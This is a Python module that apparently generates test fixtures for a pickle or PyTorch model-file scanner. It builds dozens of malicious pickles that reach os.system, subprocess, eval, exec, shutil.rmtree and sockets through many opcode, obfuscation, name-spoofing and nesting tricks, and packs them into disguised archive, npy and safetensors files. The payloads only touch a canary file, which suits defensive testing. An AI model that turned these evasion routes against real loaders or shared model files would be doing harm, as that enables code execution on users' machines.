"""Every way to have a pickle call something, in every container that is unpickled."""

import pickle
import struct

from .writing import STATE, archive, call, entries, name, number, short, stream, tensor, text, whole


def payloads(canary):
    """(name, pickle) by the route that leads to the call."""
    command = f"touch {canary}"
    code = f"open({canary!r}, 'w').close()"
    system, run = name("os", "system"), text(command)
    yield "reduce", whole(call(system, run))
    yield "reduce-protocol-0", b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."
    yield "reduce-posix", whole(call(name("posix", "system"), run))
    yield "reduce-nt", whole(call(name("nt", "system"), run))
    yield "stack-global", whole(short("os") + short("system") + b"\x93(" + run + b"tR", 4)
    yield "stack-global-from-memo", whole(short("system") + b"\x94" + short("os") + b"\x94" + b"h\x01h\x00\x93(" + run + b"tR", 4)
    yield "stack-global-of-text-opcodes", whole(b"Vos\nS'system'\n\x93(" + run + b"tR", 4)
    yield "stack-global-of-raw-escapes", whole(b"V\\u006fs\nVsys\\u0074em\n\x93(" + run + b"tR", 4)
    yield "stack-global-computed", whole(name("builtins", "str") + b"(" + text("os") + b"tR" + short("system") + b"\x93(" + run + b"tR", 4)
    yield "stack-global-dotted", whole(short("torch.serialization") + short("os.system") + b"\x93(" + run + b"tR", 4)
    yield "stack-global-dotted-in-allowed", whole(short("collections") + short("OrderedDict.__class__") + b"\x93(" + run + b"tR", 4)
    yield "inst", b"(S'" + command.encode() + b"'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS'" + command.encode() + b"'\no."
    yield "newobj", whole(name("subprocess", "Popen") + b"(" + text(canary) + b"t\x81")
    yield "newobj-ex", whole(name("subprocess", "Popen") + b"((" + text("touch") + text(canary) + b"lt}\x92", 4)
    yield "build-setstate", whole(
        name("types", "SimpleNamespace") + b")\x81}(" + text("__setstate__") + system + b"ub" + run + b"b")
    yield "build-class", whole(name("collections", "OrderedDict") + b"}(" + text("__setstate__") + system + b"ub)R" + run + b"b")
    yield "build-dictionary-with-call", whole(STATE + b"}(" + text("x") + call(system, run) + b"ub")
    yield "build-tensor", whole(tensor() + b"(" + run + b"tb")
    yield "extension-1", whole(b"\x82\x01(" + run + b"tR")
    yield "extension-2", whole(b"\x83\x01\x01(" + run + b"tR")
    yield "extension-4", whole(b"\x84\x01\x01\x01\x01(" + run + b"tR")
    yield "persistent-line", whole(b"Pstorage\n")
    yield "persistent-call", whole(b"(" + text("storage") + system + text("0") + text("cpu") + number(4) + b"tQ")
    yield "persistent-module", whole(b"(" + text("module") + system + text("a.py") + text("source") + b"tQ")
    yield "persistent-text", whole(text("storage") + b"Q")
    yield "imported-and-dropped", whole(system + b"0" + STATE)
    yield "imported-as-value", whole(entries(("weight", tensor()), ("hook", system)))
    yield "as-value-of-a-key", whole(entries(("weight", tensor()), ("x", call(system, run))))
    yield "as-backward-hooks", whole(entries(("weight", tensor(function="_rebuild_tensor", more=call(system, run)))))
    yield "in-a-tensors-shape", whole(call(name("torch._utils", "_rebuild_tensor_v2"), call(system, run)))
    yield "through-rebuild-from-type", whole(
        call(name("torch._tensor", "_rebuild_from_type_v2"), system, name("torch", "Tensor"), b"(" + run + b"t", b"}"))
    yield "through-parameter-state", whole(
        call(name("torch._utils", "_rebuild_parameter_with_state"), tensor(), b"\x89", b"}", call(system, run)))
    yield "nested-loads", whole(call(name("_pickle", "loads"), bytes_of(whole(call(system, run)))))
    yield "nested-loads-pickle", whole(call(name("pickle", "loads"), bytes_of(whole(call(system, run)))))
    yield "nested-torch-load", whole(call(name("torch", "load"), text(canary)))
    yield "nested-storage", whole(call(name("torch.storage", "_load_from_bytes"), bytes_of(whole(call(system, run)))))
    yield "nested-dill", whole(call(name("dill", "loads"), bytes_of(whole(call(system, run)))))
    yield "nested-joblib", whole(call(name("joblib", "load"), text(canary)))
    yield "eval", whole(call(name("builtins", "eval"), text(code)))
    yield "exec", whole(call(name("builtins", "exec"), text(code)))
    yield "exec-python-2", whole(call(name("__builtin__", "eval"), text(code)))
    yield "compile", whole(call(name("builtins", "compile"), text(code), text("x"), text("exec")))
    yield "import", whole(call(name("builtins", "__import__"), text("os")))
    yield "open", whole(call(name("builtins", "open"), text(canary), text("w")))
    yield "io-open", whole(call(name("io", "open"), text(canary), text("w")))
    yield "getattr", whole(call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), run))
    yield "map", whole(call(name("builtins", "map"), system, b"(" + run + b"l"))
    yield "partial", whole(call(call(name("functools", "partial"), system, run)))
    yield "attrgetter", whole(call(call(name("operator", "attrgetter"), text("system")), call(name("builtins", "__import__"), text("os"))))
    yield "methodcaller", whole(call(call(name("operator", "methodcaller"), text("system"), run), call(name("builtins", "__import__"), text("os"))))
    yield "subprocess-run", whole(call(name("subprocess", "run"), b"(" + text("touch") + text(canary) + b"l"))
    yield "subprocess-output", whole(call(name("subprocess", "check_output"), b"(" + text("touch") + text(canary) + b"l"))
    yield "pty", whole(call(name("pty", "spawn"), b"(" + text("touch") + text(canary) + b"l"))
    yield "runpy", whole(call(name("runpy", "_run_code"), text(code), b"}"))
    yield "timeit", whole(call(name("timeit", "timeit"), text(code)))
    yield "profile", whole(call(name("cProfile", "run"), text(code)))
    yield "pdb", whole(call(name("pdb", "run"), text(code)))
    yield "code", whole(call(name("code", "InteractiveInterpreter.runcode"), text(code)))
    yield "ctypes", whole(call(name("ctypes", "CDLL"), text("libc.so.6")))
    yield "socket", whole(call(name("socket", "create_connection"), b"(" + text("127.0.0.1") + number(9) + b"t"))
    yield "webbrowser", whole(call(name("webbrowser", "open"), text("http://127.0.0.1:9")))
    yield "urlopen", whole(call(name("urllib.request", "urlopen"), text("http://127.0.0.1:9")))
    yield "shutil", whole(call(name("shutil", "rmtree"), text(canary)))
    yield "multiprocessing", whole(call(name("multiprocessing.util", "spawnv_passfds"), text("touch")))
    yield "asyncio", whole(call(name("asyncio.unix_events", "_UnixSubprocessTransport._start"), text("touch")))
    yield "numpy-runstring", whole(call(name("numpy.testing._private.utils", "runstring"), text(code), b"}"))
    yield "torch-collect-env", whole(call(name("torch.utils.collect_env", "run"), run))
    yield "torch-exec-wrapper", whole(call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), text(code), b"}", b"}"))
    yield "torch-bottleneck", whole(call(name("torch.utils.bottleneck.__main__", "run_cprofile"), text(code), b"}"))
    yield "torch-hub", whole(call(name("torch.hub", "load"), text("a/b"), text("c")))
    yield "pip", whole(call(name("pip", "main"), b"(" + text("list") + b"l"))
    yield "copyreg", whole(call(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), b"N"))
    yield "argparse-namespace", whole(call(name("argparse", "Namespace")))
    yield "kelvin-sign", whole(name("torch", "Flo\u212AtStorage") + b")R")
    yield "trailing-space", whole(name("collections", "OrderedDict ") + b")R")
    yield "carriage-return", whole(b"ccollections\r\nOrderedDict\r\n)R")
    yield "null-byte", whole(b"ccollections\0\nOrderedDict\n)R")
    yield "similar-module", whole(call(name("torch.utils", "_rebuild_tensor_v2"), b")"))
    yield "private-rebuild", whole(call(name("torch._utils", "_import_dotted_name"), text("os.system")))
    yield "second-pickle", whole(STATE) + whole(call(system, run))


def bytes_of(raw):
    return b"B" + struct.pack("<I", len(raw)) + raw


def files(canary):
    for route, pickled in payloads(canary):
        yield f"{route}.pkl", pickled
        yield f"{route}-zip.bin", archive(pickled)
        yield f"{route}-legacy.bin", stream(pickled)
    system, run = name("os", "system"), text(f"touch {canary}")
    bad = whole(call(system, run))
    for position in range(5):
        parts = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {}, {}, [])]
        parts[position] = bad
        yield f"in-pickle-{position}-of-the-stream.bin", b"".join(parts)
    yield "beside-data.bin", archive(more=[("archive/evil.pkl", bad)])
    yield "in-another-folder.bin", archive(more=[("other/data.pkl", bad)])
    yield "in-constants.bin", archive(more=[("archive/constants.pkl", bad)])
    yield "without-data.zip", archive(leave=("archive/data.pkl",), more=[("archive/model.pkl", bad)])
    yield "under-another-name.safetensors", bad
    yield "long-text-before.pkl", whole(text("x" * 5000) + b"0" + call(system, run))
    yield "numpy-objects.npy", b"\x93NUMPY\x01\x00\x04\x00{}  " + bad
